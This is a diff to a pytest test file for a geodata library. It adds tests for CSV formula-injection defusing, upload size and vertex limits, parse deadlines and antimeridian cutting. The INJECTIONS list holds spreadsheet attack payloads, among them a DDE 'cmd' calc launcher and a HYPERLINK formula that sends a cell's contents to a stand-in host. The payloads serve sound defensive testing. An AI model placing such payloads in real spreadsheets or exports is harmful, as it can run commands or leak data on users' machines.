@@ -8,10 +8,13 @@ are made here at test time.
 from __future__ import annotations
 
 import contextlib
+import csv
 import io
 import json
+import math
 import os
 import random
+import re
 import shutil
 import subprocess
 import tracemalloc
@@ -21,6 +24,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import shapely
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from shapely.geometry import shape
 
 from geo.errors import DataError
 from geo.formats import (
@@ -32,7 +39,8 @@ from geo.formats import (
     to_csv,
     to_kml,
 )
-from geo.geojson import normalise_geometry
+from geo.formats._common import text_problem
+from geo.geojson import crosses_antimeridian, geometry_problems, normalise_geometry
 from geo.records import LayerRecord, RecordKind
 
 DATA = Path(__file__).resolve().parent / "data"
@@ -465,14 +473,125 @@ def test_kml_is_built_as_xml_not_by_concatenation() -> None:
     assert b"0.0000001,-0.0000005" in kml  # no exponents in coordinates
 
 
-def test_csv_is_verbatim_spreadsheet_friendly_text() -> None:
+def test_csv_is_spreadsheet_friendly_text() -> None:
     records = hostile_records()
     text = to_csv(records)
     assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
-    assert '"=HYPERLINK(""http://example.org"",""click"")"' in text  # verbatim, not defused
-    assert "'=HYPERLINK" not in text
     row = text.split("\r\n")[1].split(",")
     assert row[6:8] == ["36.2671234", "33.6655"]  # longitude, latitude of a point
+
+
+# ---------------------------------------------------------------- formula injection
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
+
+
+def runnable(cell: str) -> bool:
+    """Whether a spreadsheet could take the cell for a formula (a plain number is not one)."""
+    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
+
+
+def csv_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+
+
+# Issue 8: each of these was written as it is, for a spreadsheet to run.
+INJECTIONS = [
+    '=HYPERLINK("http://x/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-1+1",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "'=1+1",  # already marked: gets one more mark, so that reading takes one off
+]
+
+
+@pytest.mark.parametrize("value", INJECTIONS)
+def test_csv_cells_that_could_run_are_defused_and_read_back(value: str) -> None:
+    point = {"type": "Point", "coordinates": [-70.25, -33.5]}
+    record = LayerRecord(value, value, RecordKind.PLACE, value, point, {"note": value}, None, value)
+    text = to_csv([record])
+    assert not any(runnable(cell) for cell in csv_cells(text))
+    assert f"'{value}" in csv_cells(text)  # id, layer, name, date_as_stated
+    assert read_upload("x.csv", text.encode(), layer="ignored").records == [record]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("-33.5", "-33.5"),  # a number is not a formula, and stays a number
+        ("+1", "+1"),
+        ("-1e5", "-1e5"),
+        ("-.5", "-.5"),
+        ("-٣", "'-٣"),  # not a number to a spreadsheet (Arabic-Indic digit)
+        ("- 1", "'- 1"),
+        ("1+1", "1+1"),  # a formula only when it starts with a sign
+        ("plain", "plain"),
+        ("", ""),
+    ],
+)
+def test_csv_numbers_and_plain_text_are_written_as_they_are(value: str, cell: str) -> None:
+    point = {"type": "Point", "coordinates": [1.0, 2.0]}
+    record = LayerRecord("a", "L", RecordKind.PLACE, value, point)
+    text = to_csv([record])
+    assert csv_cells(text)[len(CSV_COLUMNS) + 3] == cell  # the name
+    assert read_upload("x.csv", text.encode(), layer="L").records == [record]
+
+
+def test_negative_coordinates_stay_numbers() -> None:
+    point = {"type": "Point", "coordinates": [-70.25, -33.5]}
+    text = to_csv([LayerRecord("a", "L", RecordKind.PLACE, "Santiago", point)])
+    assert csv_cells(text)[len(CSV_COLUMNS) + 6 : len(CSV_COLUMNS) + 8] == ["-70.25", "-33.5"]
+
+
+def test_a_foreign_csv_keeps_its_apostrophes() -> None:
+    text = "name,lat,lon\n'quoted,1,2\n'=1+1,3,4\n"
+    records = read_upload("f.csv", text.encode(), layer="L").records
+    assert [record.name for record in records] == ["'quoted", "'=1+1"]
+
+
+def test_our_csv_edited_in_a_spreadsheet_reads_back() -> None:
+    """A spreadsheet shows '=1+1 as text and saves it as it is: the mark is taken off."""
+    point = {"type": "Point", "coordinates": [1.0, 2.0]}
+    record = LayerRecord("a", "=L", RecordKind.PLACE, "=1+1", point)
+    text = to_csv([record]).replace("'=1+1", "'=2+2")
+    (again,) = read_upload("x.csv", text.encode(), layer="x").records
+    assert (again.name, again.layer) == ("=2+2", "=L")
+
+
+# Text a record can hold: no characters that are not text (the writers refuse those).
+text_values = st.text(
+    alphabet=st.one_of(
+        st.sampled_from([*FORMULA_STARTS, "'", "0", "1", ".", "e", " ", "\n", '"', ","]),
+        st.characters(exclude_categories=("Cs",), exclude_characters="\ufffe\uffff"),
+    ),
+    max_size=20,
+).filter(lambda text: text_problem(text) is None)
+
+
+@given(
+    record_id=text_values.filter(str.strip),
+    layer=text_values,
+    name=text_values,
+    stated=st.one_of(st.none(), text_values.filter(bool)),
+    key=text_values,
+    value=text_values,
+)
+@settings(max_examples=300, deadline=None)
+def test_any_text_round_trips_through_csv_and_no_cell_can_run(
+    record_id: str, layer: str, name: str, stated: str | None, key: str, value: str
+) -> None:
+    point = {"type": "Point", "coordinates": [-70.25, -33.5]}
+    record = LayerRecord(
+        record_id, layer, RecordKind.PLACE, name, point, {key: value}, None, stated
+    )
+    text = to_csv([record])
+    assert not any(runnable(cell) for cell in csv_cells(text))
+    assert read_upload("x.csv", text.encode(), layer="ignored").records == [record]
 
 
 def test_an_empty_date_as_stated_reads_back_as_none_from_csv() -> None:
@@ -567,6 +686,31 @@ CORPUS: dict[str, tuple[tuple[str, ...], str | None, str | None]] = {
     "duplicate-columns.csv": (("'name' appears twice",), None, "name"),
     "tampered-export.csv": (("'weapon' is not one of place",), "#1", "kind"),
     "tampered-export.kml": (("not valid JSON",), "#1", "properties"),
+    "antimeridian-around-pole.geojson": (
+        ("crosses the antimeridian", "goes around a pole", "ogr2ogr -wrapdateline"),
+        "#1",
+        "geometry",
+    ),
+    "antimeridian-bow-tie.geojson": (
+        ("cannot be cut there reliably", "Self-intersection"),
+        "#1",
+        "geometry",
+    ),
+    "key-too-long.geojson": (
+        ("a property name of 1,001 characters is over the 1,000-character limit",),
+        "#1",
+        "properties." + "k" * 59 + "…",
+    ),
+    "kml-data-name-too-long.kml": (
+        ("a property name of 1,001 characters is over the 1,000-character limit",),
+        "#1",
+        "n" * 59 + "…",
+    ),
+    "csv-column-name-too-long.csv": (
+        ("a property name of 1,001 characters is over the 1,000-character limit",),
+        None,
+        "c" * 59 + "…",
+    ),
 }
 
 
@@ -658,8 +802,65 @@ def feature_with(properties: dict[str, Any]) -> bytes:
     return json.dumps({"type": "Feature", "geometry": geometry, "properties": properties}).encode()
 
 
+def comment_kml(size: int) -> bytes:
+    """A KML of `size` bytes that is one comment and packs about 16 to 1: under the ratio
+    limit, so only the size limit stops it."""
+    rng = random.Random(1)
+    line = bytearray(b"x" * 60 + b"abcd\n")
+    lines = []
+    for _ in range(size // len(line) + 1):
+        line[60:64] = bytes(rng.choices(b"abcdefghijklmnopqrstuvwxyz", k=4))
+        lines.append(bytes(line))
+    body = b"".join(lines)[: size - len(b"<kml><!---->\n</kml>")]
+    return b"<kml><!--" + body + b"-->\n</kml>"
+
+
+def circle(vertices: int, lon: float = 36.0, lat: float = 33.0) -> list[list[float]]:
+    """A closed ring of `vertices` positions (the last repeats the first)."""
+    ring = [
+        [round(lon + math.cos(angle), 7), round(lat + math.sin(angle), 7)]
+        for angle in (2 * math.pi * index / (vertices - 1) for index in range(vertices - 1))
+    ]
+    return [*ring, ring[0]]
+
+
+def polygon_feature(vertices: int) -> bytes:
+    geometry = {"type": "Polygon", "coordinates": [circle(vertices)]}
+    return json.dumps({"type": "Feature", "geometry": geometry, "properties": {}}).encode()
+
+
+def kml_placemark(geometry: bytes, extended: bytes = b"") -> bytes:
+    return b"<kml><Placemark>" + extended + geometry + b"</Placemark></kml>"
+
+
+def kml_ring(vertices: int) -> bytes:
+    coordinates = " ".join(f"{lon},{lat}" for lon, lat in circle(vertices)).encode()
+    return (
+        b"<Polygon><outerBoundaryIs><LinearRing><coordinates>"
+        + coordinates
+        + b"</coordinates></LinearRing></outerBoundaryIs></Polygon>"
+    )
+
+
+def kml_data(count: int) -> bytes:
+    values = b"".join(b'<Data name="p%d"><value>1</value></Data>' % n for n in range(count))
+    return b"<ExtendedData>" + values + b"</ExtendedData>"
+
+
+def many_columns(count: int) -> bytes:
+    header = "lat,lon," + ",".join(f"c{n}" for n in range(count))
+    return f"{header}\n33.6,36.3{',x' * count}\n".encode()
+
+
+def own_csv_with_properties(count: int) -> bytes:
+    point = {"type": "Point", "coordinates": [36.3, 33.6]}
+    properties = {f"p{n}": n for n in range(count)}
+    return to_csv([LayerRecord("a", "L", RecordKind.PLACE, "A", point, properties)]).encode()
+
+
 PLACEMARK = b"<Placemark><Point><coordinates>36.3,33.6</coordinates></Point></Placemark>"
 SMALL = Limits(max_features=10, max_coordinates=100, max_string=50)
+FEW_VERTICES = Limits(max_vertices_per_geometry=10)
 
 # id: (file name, bytes maker, limits, fragments)
 GENERATED: dict[str, tuple[str, Callable[[], bytes], Limits, tuple[str, ...]]] = {
@@ -711,11 +912,17 @@ GENERATED: dict[str, tuple[str, Callable[[], bytes], Limits, tuple[str, ...]]] =
     ),
     "kmz-over-uncompressed-limit": (
         "big.kmz",
-        lambda: zipped(
-            "doc.kml", b"<kml>" + random.Random(1).randbytes(3 * 1024 * 1024) + b"</kml>"
-        ),
-        Limits(max_kmz_uncompressed=2 * 1024 * 1024),
-        ("unpacks to 3,145,739 bytes, over the 2,097,152-byte limit",),
+        lambda: zipped("doc.kml", comment_kml(3 * 1024 * 1024)),
+        Limits(max_bytes=2 * 1024 * 1024),
+        ("unpacks to 3,145,728 bytes, over the 2,097,152-byte limit of a KML file",),
+    ),
+    # Issue 8: 196 MB of comment packed 15 to 1 took 17 s (69 s on the tester's machine)
+    # and 600 MB to parse. A KMZ unpacks to no more than a KML upload may be.
+    "kmz-unpacks-past-max-bytes": (
+        "comment.kmz",
+        lambda: zipped("doc.kml", comment_kml(50 * 1024 * 1024 + 1)),
+        Limits(),
+        ("over the 52,428,800-byte limit of a KML file",),
     ),
     "kml-too-many-placemarks": (
         "many.kml",
@@ -766,6 +973,95 @@ GENERATED: dict[str, tuple[str, Callable[[], bytes], Limits, tuple[str, ...]]] =
         SMALL,
         ("51 characters is over the 50-character limit",),
     ),
+    # Issue 8: a polygon of 1,000,000 vertices imported in 8.5 s and 580 MB and made the
+    # map unusable; the limit is per geometry, besides the file's max_coordinates.
+    "polygon-over-vertex-limit": (
+        "polygon.geojson",
+        lambda: polygon_feature(100_001),
+        Limits(),
+        (
+            "record #1: field geometry: a Polygon of 100,001 vertices is over the limit of "
+            "100,000 per geometry",
+            "ogr2ogr -simplify",
+            "QGIS",
+        ),
+    ),
+    "multipolygon-parts-over-vertex-limit": (
+        "parts.geojson",
+        lambda: json.dumps(
+            {"type": "MultiPolygon", "coordinates": [[circle(6)], [circle(6, lon=40)]]}
+        ).encode(),
+        FEW_VERTICES,
+        ("a MultiPolygon of 12 vertices is over the limit of 10 per geometry",),
+    ),
+    "kml-ring-over-vertex-limit": (
+        "ring.kml",
+        lambda: kml_placemark(kml_ring(11)),
+        FEW_VERTICES,
+        ("record #1: field coordinates: a LinearRing of 11 vertices is over the limit of 10",),
+    ),
+    "kml-multigeometry-over-vertex-limit": (
+        "points.kml",
+        lambda: kml_placemark(
+            b"<MultiGeometry>"
+            + b"<Point><coordinates>36.3,33.6</coordinates></Point>" * 11
+            + b"</MultiGeometry>"
+        ),
+        FEW_VERTICES,
+        ("record #1: field geometry: a MultiPoint of 11 vertices is over the limit of 10",),
+    ),
+    "wkt-over-vertex-limit": (
+        "line.csv",
+        lambda: b'wkt\n"LINESTRING (' + b", ".join([b"36.3 33.6", b"36.4 33.7"] * 6) + b')"\n',
+        FEW_VERTICES,
+        ("record #1: field wkt: a LineString of 12 vertices is over the limit of 10",),
+    ),
+    # Issue 8: a feature with 1,000,001 properties, or a property name of 20 million
+    # characters, imported: the length limit was for values only.
+    "geojson-too-many-properties": (
+        "wide.geojson",
+        lambda: feature_with({f"p{n}": n for n in range(100_001)}),
+        Limits(),
+        ("record #1: field properties: 100,001 properties, over the limit of 1,000 per feature",),
+    ),
+    "geojson-nested-object-with-too-many-keys": (
+        "nested.geojson",
+        lambda: feature_with({"survey": {f"q{n}": n for n in range(1_001)}}),
+        Limits(),
+        ("field properties.survey: 1,001 properties, over the limit of 1,000",),
+    ),
+    "geojson-key-of-20-million-characters": (
+        "key.geojson",
+        lambda: feature_with({"k" * 20_000_000: 1}),
+        Limits(),
+        ("a property name of 20,000,000 characters is over the 1,000-character limit",),
+    ),
+    "kml-too-many-data-values": (
+        "wide.kml",
+        lambda: kml_placemark(
+            b"<Point><coordinates>36.3,33.6</coordinates></Point>", kml_data(1_001)
+        ),
+        Limits(),
+        ("record #1: field ExtendedData: more than 1,000 properties",),
+    ),
+    "csv-too-many-columns": (
+        "wide.csv",
+        lambda: many_columns(1_001),
+        Limits(),
+        ("1,001 properties, over the limit of 1,000 per feature",),
+    ),
+    "csv-column-name-past-the-csv-field-limit": (
+        "name.csv",
+        lambda: b"lat,lon," + b"c" * 200_000 + b"\n33.6,36.3,x\n",
+        Limits(),
+        ("field header: a column name of more than 131,072 characters is over the 1,000",),
+    ),
+    "own-csv-too-many-properties": (
+        "export.csv",
+        lambda: own_csv_with_properties(1_001),
+        Limits(),
+        ("record #1: field properties: 1,001 properties, over the limit of 1,000",),
+    ),
 }
 
 
@@ -792,6 +1088,311 @@ def test_damaged_files_give_data_errors_only() -> None:
         for variant in variants:
             with contextlib.suppress(DataError):
                 read_upload(path.name, variant, layer="L")
+
+
+# ---------------------------------------------------------------- time
+
+
+class SteppingClock:
+    """A clock that moves `step` seconds each time it is read: time passes with work done."""
+
+    def __init__(self, step: float) -> None:
+        self.now = 0.0
+        self.step = step
+        self.reads = 0
+
+    def __call__(self) -> float:
+        self.reads += 1
+        self.now += self.step
+        return self.now
+
+
+@pytest.mark.parametrize("name", ["slow.kml", "slow.kmz"])
+def test_a_parse_past_the_deadline_is_stopped_between_pieces(name: str) -> None:
+    kml = comment_kml(8 * 1024 * 1024)  # eight 1 MB pieces to unpack and to parse
+    data = zipped("doc.kml", kml) if name.endswith(".kmz") else kml
+    clock = SteppingClock(step=1.0)
+    error = refusal(
+        lambda: read_upload(name, data, layer="L", limits=Limits(max_seconds=3), clock=clock),
+        size=len(kml),
+    )
+    assert "reading the file took longer than the 3-second limit" in str(error)
+    assert "split it into smaller files" in str(error)
+    assert error.problems[0].record is None  # stopped before any record was read
+    assert clock.reads == 5  # the start, three pieces in time, the fourth too late
+
+
+def test_records_past_the_deadline_are_not_read() -> None:
+    points = [{"type": "Point", "coordinates": [n, n]} for n in range(10)]
+    data = json.dumps(
+        {
+            "type": "FeatureCollection",
+            "features": [
+                {"type": "Feature", "geometry": point, "properties": {}} for point in points
+            ],
+        }
+    ).encode()
+    clock = SteppingClock(step=1.0)
+    # The start reads the clock once; records #1 to #5 fit in the five seconds.
+    with pytest.raises(DataError, match=r"5-second limit \(stopped at record #6\)"):
+        read_upload("slow.geojson", data, layer="L", limits=Limits(max_seconds=5), clock=clock)
+    # Without a deadline in sight, the same clock lets the file through.
+    upload = read_upload("ok.geojson", data, layer="L", clock=SteppingClock(step=1.0))
+    assert len(upload.records) == 10
+
+
+# ---------------------------------------------------------------- vertices per geometry
+
+
+def test_a_geometry_over_the_vertex_limit_is_refused_before_it_is_walked(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Counting is all that happens: no position is checked and no shape built (a polygon
+    of 1,000,000 vertices spent 8 of its 8.5 s there)."""
+    import geo.formats._common as common
+    import geo.formats._kml as kml
+
+    def walked(*args: Any, **kwargs: Any) -> Any:
+        raise AssertionError("the positions were walked before the limit was checked")
+
+    for name in ("geometry_problems", "structure_problems", "shape"):
+        monkeypatch.setattr(common, name, walked, raising=False)
+    monkeypatch.setattr(kml, "number", walked)
+    with pytest.raises(DataError, match="100,001 vertices"):
+        read_upload("p.geojson", polygon_feature(100_001), layer="L")
+    with pytest.raises(DataError, match="11 vertices"):
+        read_upload("p.kml", kml_placemark(kml_ring(11)), layer="L", limits=FEW_VERTICES)
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("at-limit.geojson", polygon_feature(10)),
+        ("at-limit.kml", kml_placemark(kml_ring(10))),
+        ("at-limit.csv", b'wkt\n"LINESTRING (' + b", ".join([b"1 2", b"3 4"] * 5) + b')"\n'),
+    ],
+)
+def test_a_geometry_at_the_vertex_limit_imports(name: str, data: bytes) -> None:
+    assert len(read_upload(name, data, layer="L", limits=FEW_VERTICES).records) == 1
+
+
+# ---------------------------------------------------------------- properties per feature
+
+
+def test_too_many_properties_are_refused_before_they_are_copied(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import geo.formats._geojson as geojson_reader
+
+    def copied(value: Any) -> Any:
+        raise AssertionError("the properties were copied before the limit was checked")
+
+    monkeypatch.setattr(geojson_reader.copy, "deepcopy", copied)
+    with pytest.raises(DataError, match="1,001 properties"):
+        read_upload("w.geojson", feature_with({f"p{n}": n for n in range(1_001)}), layer="L")
+
+
+def test_properties_and_names_at_the_limits_import() -> None:
+    widest = {f"p{n}": n for n in range(999)} | {"k" * 1_000: "a name of 1,000 characters"}
+    (record,) = read_upload("w.geojson", feature_with(widest), layer="L").records
+    assert record.properties == widest
+    kml = kml_placemark(b"<Point><coordinates>36.3,33.6</coordinates></Point>", kml_data(1_000))
+    assert len(read_upload("w.kml", kml, layer="L").records[0].properties) == 1_000
+    assert len(read_upload("w.csv", many_columns(1_000), layer="L").records[0].properties) == 1_000
+    assert len(read_upload("e.csv", own_csv_with_properties(1_000), layer="L").records) == 1
+
+
+# ---------------------------------------------------------------- the antimeridian
+
+# name: (geometry, the type once cut, its parts)
+CROSSING: dict[str, tuple[dict[str, Any], str, int]] = {
+    "polygon-170-to-minus-170": (
+        {
+            "type": "Polygon",
+            "coordinates": [[[170, 0], [-170, 0], [-170, 10], [170, 10], [170, 0]]],
+        },
+        "MultiPolygon",
+        2,
+    ),
+    "polygon-clockwise": (
+        {
+            "type": "Polygon",
+            "coordinates": [[[170, 0], [170, 10], [-170, 10], [-170, 0], [170, 0]]],
+        },
+        "MultiPolygon",
+        2,
+    ),
+    "polygon-with-a-hole-across-too": (
+        {
+            "type": "Polygon",
+            "coordinates": [
+                [[160, -10], [-160, -10], [-160, 10], [160, 10], [160, -10]],
+                [[-175, -1], [-175, 1], [175, 1], [175, -1], [-175, -1]],
+            ],
+        },
+        "MultiPolygon",
+        2,
+    ),
+    "polygon-with-a-vertex-at-minus-180": (
+        {
+            "type": "Polygon",
+            "coordinates": [[[170, 0], [-180, 0], [-180, 10], [170, 10], [170, 0]]],
+        },
+        "Polygon",  # all of it lies east of the antimeridian: -180 is 180
+        1,
+    ),
+    "line": (
+        {"type": "LineString", "coordinates": [[170, 0], [-170, 10], [175, 20]]},
+        "MultiLineString",
+        3,
+    ),
+    "multilinestring": (
+        {"type": "MultiLineString", "coordinates": [[[179, 0], [-179, 1]], [[0, 0], [1, 1]]]},
+        "MultiLineString",
+        3,
+    ),
+    "multipolygon": (
+        {
+            "type": "MultiPolygon",
+            "coordinates": [
+                [[[179, 50], [-179, 50], [-179, 51], [179, 51], [179, 50]]],
+                [[[10, 10], [11, 10], [11, 11], [10, 10]]],
+            ],
+        },
+        "MultiPolygon",
+        3,
+    ),
+}
+
+
+def unwrapped_size(geometry: dict[str, Any]) -> float:
+    """Area (or length) of a geometry with every longitude moved east of 0: its true size in
+    degrees when it crosses the antimeridian and lies within 180° of it."""
+
+    def east(coords: Any) -> Any:
+        if isinstance(coords[0], (int, float)):
+            return [coords[0] % 360, *coords[1:]]
+        return [east(item) for item in coords]
+
+    geom = shape({"type": geometry["type"], "coordinates": east(geometry["coordinates"])})
+    return geom.area if "Polygon" in geometry["type"] else geom.length
+
+
+@pytest.mark.parametrize("name", sorted(CROSSING))
+def test_a_geometry_across_the_antimeridian_is_cut_and_keeps_its_original(name: str) -> None:
+    geometry, kind, parts = CROSSING[name]
+    features = [
+        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [0, 0]}, "properties": {}},
+        {"type": "Feature", "geometry": geometry, "properties": {"name": "across"}},
+    ]
+    data = json.dumps({"type": "FeatureCollection", "features": features}).encode()
+    upload = read_upload("a.geojson", data, layer="L")
+    record = upload.records[1]
+    cut = record.geometry
+    assert cut["type"] == kind
+    assert len(shapely.get_parts(shape(cut))) == parts
+    assert not crosses_antimeridian(cut)
+    assert geometry_problems(cut) == []  # what geo.store checks on add
+    size = shape(cut).area if "Polygon" in kind else shape(cut).length
+    assert size == pytest.approx(unwrapped_size(geometry), rel=1e-6)
+    assert record.properties == {"name": "across", ORIGINAL_GEOMETRY_KEY: geometry}
+    assert upload.records[0].properties == {}
+    (warning,) = upload.warnings
+    assert "cut there into parts" in warning and "RFC 7946" in warning
+    assert warning.endswith(": #2")  # names the record, and only it
+
+
+def test_the_cut_is_where_the_edge_crosses() -> None:
+    line = {"type": "LineString", "coordinates": [[170, 0], [-170, 10]]}
+    (record,) = read_upload("l.geojson", json.dumps(line).encode(), layer="L").records
+    assert record.geometry == {
+        "type": "MultiLineString",
+        "coordinates": [[[170.0, 0.0], [180.0, 5.0]], [[-180.0, 5.0], [-170.0, 10.0]]],
+    }
+
+
+NOT_CROSSING = [
+    {  # already cut, as this tool and GDAL's -wrapdateline write it
+        "type": "MultiPolygon",
+        "coordinates": [
+            [[[170, 0], [180, 0], [180, 10], [170, 10], [170, 0]]],
+            [[[-180, 0], [-170, 0], [-170, 10], [-180, 10], [-180, 0]]],
+        ],
+    },
+    {"type": "LineString", "coordinates": [[170, 0], [180, 5]]},  # ends on it
+    {"type": "LineString", "coordinates": [[-90, 0], [90, 0]]},  # 180° apart: not across it
+    {  # a cap cut at the antimeridian, with an edge along the pole from 180 to -180
+        "type": "Polygon",
+        "coordinates": [[[-180, 80], [0, 80], [180, 80], [180, 90], [-180, 90], [-180, 80]]],
+    },
+]
+
+
+@pytest.mark.parametrize("geometry", NOT_CROSSING)
+def test_a_geometry_that_does_not_cross_is_left_alone(geometry: dict[str, Any]) -> None:
+    upload = read_upload("n.geojson", json.dumps(geometry).encode(), layer="L")
+    assert upload.records[0].geometry == normalise_geometry(geometry)
+    assert upload.warnings == []
+    assert ORIGINAL_GEOMETRY_KEY not in upload.records[0].properties
+
+
+def test_kml_and_wkt_across_the_antimeridian_are_cut() -> None:
+    kml = kml_placemark(b"<LineString><coordinates>170,0 -170,10</coordinates></LineString>")
+    wkt = b'wkt\n"POLYGON ((170 0, -170 0, -170 10, 170 10, 170 0))"\n'
+    for name, data in (("a.kml", kml), ("a.csv", wkt)):
+        upload = read_upload(name, data, layer="L")
+        assert upload.records[0].geometry["type"].startswith("Multi")
+        assert ORIGINAL_GEOMETRY_KEY in upload.records[0].properties
+
+
+def test_a_cut_record_round_trips_through_kml_and_csv() -> None:
+    geometry = CROSSING["polygon-with-a-hole-across-too"][0]
+    (record,) = read_upload("a.geojson", json.dumps(geometry).encode(), layer="L").records
+    for name, data in (
+        ("a.kml", to_kml([record], document_name="d")),
+        ("a.csv", to_csv([record]).encode()),
+    ):
+        upload = read_upload(name, data, layer="other")
+        assert upload.records == [record]
+        assert upload.warnings == []  # not cut again
+
+
+# Star-shaped polygons around a centre near the antimeridian: vertices in directions
+# taken from 48 evenly spaced ones, always with the four quarters (so the centre is
+# inside and the ring is simple), at random distances.
+star_polygons = st.tuples(
+    st.floats(-40, 40),
+    st.lists(st.integers(0, 47), max_size=48, unique=True),
+    st.lists(st.floats(0.5, 40), min_size=48, max_size=48),
+    st.floats(-30, 30),
+)
+
+
+@given(star_polygons)
+@settings(max_examples=60, deadline=None)
+def test_any_simple_polygon_across_the_antimeridian_is_cut_without_loss(
+    star: tuple[float, list[int], list[float], float],
+) -> None:
+    lat, directions, distances, shift = star
+    ring = []
+    for direction in sorted({*directions, 0, 12, 24, 36}):
+        angle = 2 * math.pi * direction / 48
+        lon = 180 + shift + distances[direction] * math.cos(angle)
+        ring.append(
+            [
+                round((lon + 180) % 360 - 180, 7),
+                round(lat + distances[direction] * math.sin(angle) * 1.2, 7),
+            ]
+        )
+    ring.append(ring[0])
+    geometry = {"type": "Polygon", "coordinates": [ring]}
+    (record,) = read_upload("s.geojson", json.dumps(geometry).encode(), layer="L").records
+    cut = record.geometry
+    assert not crosses_antimeridian(cut)
+    assert geometry_problems(cut) == []
+    assert shape(cut).area == pytest.approx(unwrapped_size(geometry), rel=1e-5)
+    assert read_upload("s.kml", to_kml([record], document_name="d"), layer="x").records == [record]
+    assert read_upload("s.csv", to_csv([record]).encode(), layer="x").records == [record]
 
 
 # ---------------------------------------------------------------- GDAL
